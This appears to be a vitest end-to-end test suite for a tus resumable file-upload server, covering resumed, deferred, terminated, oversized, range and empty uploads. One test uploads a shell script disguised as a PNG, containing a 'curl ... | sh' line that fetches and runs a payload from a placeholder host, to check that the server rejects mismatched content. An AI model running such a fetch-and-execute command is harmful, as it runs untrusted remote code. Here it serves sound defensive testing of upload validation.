import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { elfBytes, MiB, pngBytes, sha256 } from '../helpers/fixtures.ts'
import { countRows, recordsFor } from '../helpers/records.ts'
import { TEST_STORES } from '../helpers/stores.ts'
import { startTestServer, type TestServer } from '../helpers/test-server.ts'
import { isDetailedError, uploadUntil, uploadWithTus } from '../helpers/tus-client.ts'
import { encodeMetadata, TUS } from '../helpers/tus-requests.ts'

const pngMetadata = (filename: string) => ({ filename, filetype: 'image/png' })

describe.each(TEST_STORES)('uploads end to end with tus-js-client on the $name store', (store) => {
  let server: TestServer

  beforeAll(async () => {
    server = await startTestServer({ FILE_UPLOAD_MAX_SIZE: String(8 * MiB) }, store)
  })

  afterAll(async () => {
    await server?.close()
  })

  async function expectStoredOnce(id: string, bytes: Buffer) {
    const { file, events, jobs } = await recordsFor(server.knex, id)
    expect(file.status).toBe('STORED')
    expect(file.sha256).toBe(sha256(bytes))
    expect(Number(file.size)).toBe(bytes.length)
    expect(events).toHaveLength(1)
    expect(events[0].event_type).toBe('file.stored')
    expect(events[0].idempotency_key).toBe(`UploadFile:${id}`)
    expect(jobs).toHaveLength(1)
    return { file, event: events[0] }
  }

  it('stores a whole upload with its sha256, one file.stored event and one delivery job', async () => {
    const bytes = pngBytes(3 * MiB + 123)
    const { id } = await uploadWithTus(server.tusEndpoint, bytes, {
      chunkSize: MiB,
      metadata: pngMetadata('photo.png'),
    })

    const { file, event } = await expectStoredOnce(id, bytes)
    expect(file.detected_type).toBe('image/png')
    expect(file.filename).toBe('photo.png')
    expect(event.payload).toEqual({
      fileId: id,
      batchId: null,
      filename: 'photo.png',
      contentType: 'image/png',
      size: bytes.length,
      sha256: sha256(bytes),
      storageKey: file.storage_key,
      url: `${server.url}/api/files/${id}/content`,
    })
    const response = await fetch(`${server.url}/api/files/${id}`)
    expect(await response.json()).toMatchObject({ status: 'STORED', sha256: sha256(bytes) })
  })

  it('resumes an interrupted upload from its URL in a new client and ends with the exact sha256', async () => {
    const bytes = pngBytes(6 * MiB + 7)
    const interrupted = await uploadUntil(server.tusEndpoint, bytes, 2 * MiB, {
      chunkSize: MiB,
      metadata: pngMetadata('resumed.png'),
    })
    const head = await fetch(interrupted.url, {
      method: 'HEAD',
      headers: { 'Tus-Resumable': '1.0.0' },
    })
    const offsetAfterInterruption = Number(head.headers.get('upload-offset'))
    expect(offsetAfterInterruption).toBeGreaterThanOrEqual(2 * MiB)
    expect(offsetAfterInterruption).toBeLessThan(bytes.length)

    const offsets: number[] = []
    const resumed = await uploadWithTus(server.tusEndpoint, bytes, {
      uploadUrl: interrupted.url,
      chunkSize: MiB,
      onProgress: (sent) => offsets.push(sent),
    })

    expect(resumed.url).toBe(interrupted.url)
    expect(Math.min(...offsets)).toBeGreaterThanOrEqual(offsetAfterInterruption)
    await expectStoredOnce(resumed.id, bytes)
  })

  it('stores an upload whose length was deferred until the last chunk', async () => {
    const bytes = pngBytes(2 * MiB + 99)
    const { id } = await uploadWithTus(server.tusEndpoint, bytes, {
      chunkSize: MiB,
      uploadLengthDeferred: true,
      metadata: pngMetadata('deferred.png'),
    })
    await expectStoredOnce(id, bytes)
  })

  it('stores an upload sent whole in its creation request (creation-with-upload)', async () => {
    const bytes = pngBytes(200_000)
    const { id } = await uploadWithTus(server.tusEndpoint, bytes, {
      uploadDataDuringCreation: true,
      metadata: pngMetadata('inline.png'),
    })
    await expectStoredOnce(id, bytes)
  })

  it('terminates an upload: its bytes are removed and its row is DELETED with no event', async () => {
    const bytes = pngBytes(3 * MiB)
    const { id } = await uploadUntil(server.tusEndpoint, bytes, MiB, {
      terminate: true,
      chunkSize: MiB,
      metadata: pngMetadata('terminated.png'),
    })
    const { file, events, jobs } = await recordsFor(server.knex, id)
    expect(file.status).toBe('DELETED')
    expect(events).toHaveLength(0)
    expect(jobs).toHaveLength(0)
    expect((await server.storedFiles()).filter((name) => name.includes(id))).toEqual([])
  })

  it('fails an upload whose bytes are a disallowed type behind an allowed declared type, with 415 and no event', async () => {
    const bytes = elfBytes(MiB + 5)
    const error = await uploadWithTus(server.tusEndpoint, bytes, {
      chunkSize: 512 * 1024,
      metadata: pngMetadata('not-really.png'),
    }).then(
      () => undefined,
      (reason: unknown) => reason,
    )

    expect(isDetailedError(error)).toBe(true)
    if (!isDetailedError(error)) return
    expect(error.originalResponse?.getStatus()).toBe(415)
    const body = JSON.parse(error.originalResponse?.getBody() ?? '{}')
    expect(body.error.code).toBe('unsupported_file_type')
    expect(body.error.message).toContain('application/x-elf')

    const id = error.originalRequest?.getURL().split('/').at(-1) ?? ''
    const { file, events, jobs } = await recordsFor(server.knex, id)
    expect(file.status).toBe('FAILED')
    expect(file.error_code).toBe('unsupported_file_type')
    expect(file.detected_type).toBe('application/x-elf')
    expect(events).toHaveLength(0)
    expect(jobs).toHaveLength(0)
    expect((await server.storedFiles()).filter((name) => name.includes(id))).toEqual([])
  })

  it('fails a text file declared as an image (a script named .png) with 415 and no event', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid/payload | sh\n')
    const error = await uploadWithTus(server.tusEndpoint, script, {
      metadata: pngMetadata('innocent.png'),
    }).then(
      () => undefined,
      (reason: unknown) => reason,
    )

    expect(isDetailedError(error) && error.originalResponse?.getStatus()).toBe(415)
    const body = isDetailedError(error) ? JSON.parse(error.originalResponse?.getBody() ?? '{}') : {}
    expect(body.error).toEqual({
      code: 'content_type_mismatch',
      message: "The file's content is text/plain, but it was declared as image/png.",
    })
    const id = isDetailedError(error)
      ? (error.originalRequest?.getURL().split('/').at(-1) ?? '')
      : ''
    const { file, events, jobs } = await recordsFor(server.knex, id)
    expect(file.status).toBe('FAILED')
    expect(events).toHaveLength(0)
    expect(jobs).toHaveLength(0)
    expect((await server.storedFiles()).filter((name) => name.includes(id))).toEqual([])
  })

  it('stores a file of exactly FILE_UPLOAD_MAX_SIZE bytes', async () => {
    const bytes = pngBytes(8 * MiB)
    const { id } = await uploadWithTus(server.tusEndpoint, bytes, {
      chunkSize: 4 * MiB,
      metadata: pngMetadata('exactly-the-limit.png'),
    })
    await expectStoredOnce(id, bytes)
  })

  it('answers a Range that runs past the end with the bytes up to the last one (206)', async () => {
    const bytes = pngBytes(10_000)
    const { id } = await uploadWithTus(server.tusEndpoint, bytes, {
      metadata: pngMetadata('range.png'),
    })
    const response = await fetch(`${server.url}/api/files/${id}/content`, {
      headers: { Range: 'bytes=9990-20000' },
    })
    expect(response.status).toBe(206)
    expect(response.headers.get('content-range')).toBe('bytes 9990-9999/10000')
    expect(response.headers.get('content-length')).toBe('10')
    expect(Buffer.from(await response.arrayBuffer())).toEqual(bytes.subarray(9990))
  })

  it('refuses a file over the size limit with 413 before any byte is sent', async () => {
    const rowsBefore = await countRows(server.knex, 'upload_files')
    const filesBefore = await server.storedFiles()
    const bytes = pngBytes(8 * MiB + 1)
    let sentBytes = 0
    const error = await uploadWithTus(server.tusEndpoint, bytes, {
      metadata: pngMetadata('huge.png'),
      onProgress: (sent) => {
        sentBytes = sent
      },
    }).then(
      () => undefined,
      (reason: unknown) => reason,
    )

    expect(isDetailedError(error) && error.originalResponse?.getStatus()).toBe(413)
    expect(isDetailedError(error) && error.originalRequest?.getMethod()).toBe('POST')
    expect(sentBytes).toBe(0)
    expect(await countRows(server.knex, 'upload_files')).toBe(rowsBefore)
    expect(await server.storedFiles()).toEqual(filesBefore)
  })

  it('keeps two files with the same name as two stored objects', async () => {
    const first = pngBytes(100_000)
    const second = pngBytes(120_000)
    const [a, b] = await Promise.all([
      uploadWithTus(server.tusEndpoint, first, { metadata: pngMetadata('report.png') }),
      uploadWithTus(server.tusEndpoint, second, { metadata: pngMetadata('report.png') }),
    ])

    const stored = [await expectStoredOnce(a.id, first), await expectStoredOnce(b.id, second)]
    expect(stored[0]?.file.storage_key).not.toBe(stored[1]?.file.storage_key)
    const files = await server.storedFiles()
    expect(files).toContain(stored[0]?.file.storage_key)
    expect(files).toContain(stored[1]?.file.storage_key)
    for (const [id, bytes] of [
      [a.id, first],
      [b.id, second],
    ] as const) {
      const content = await fetch(`${server.url}/api/files/${id}/content`)
      expect(sha256(Buffer.from(await content.arrayBuffer()))).toBe(sha256(bytes))
    }
  })
})

describe.each(TEST_STORES)(
  'empty files with FILE_UPLOAD_MIN_SIZE=0 on the $name store',
  (store) => {
    let server: TestServer

    beforeAll(async () => {
      server = await startTestServer({ FILE_UPLOAD_MIN_SIZE: '0', LOG_LEVEL: 'error' }, store)
    })

    afterAll(async () => {
      await server?.close()
    })

    it.each([
      ['no metadata', {}, 'application/octet-stream'],
      [
        'a declared allowed type',
        { 'Upload-Metadata': encodeMetadata({ filename: 'empty.txt', filetype: 'text/plain' }) },
        'text/plain',
      ],
    ])(
      'creates, finishes and stores an empty upload with %s, the sha256 of no bytes and one event',
      async (_case, metadataHeader, expectedType) => {
        const response = await fetch(server.tusEndpoint, {
          method: 'POST',
          headers: { ...TUS, 'Upload-Length': '0', ...metadataHeader },
        })
        expect(response.status).toBe(201)
        const id = response.headers.get('location')?.split('/').at(-1) ?? ''

        const { file, events, jobs } = await recordsFor(server.knex, id)
        expect(file.status).toBe('STORED')
        expect(file.sha256).toBe(sha256(Buffer.alloc(0)))
        expect(Number(file.size)).toBe(0)
        expect(file.detected_type).toBe(expectedType)
        expect(events).toHaveLength(1)
        expect(jobs).toHaveLength(1)
        const content = await fetch(`${server.url}/api/files/${id}/content`)
        expect(content.status).toBe(200)
        expect((await content.arrayBuffer()).byteLength).toBe(0)
      },
    )
  },
)
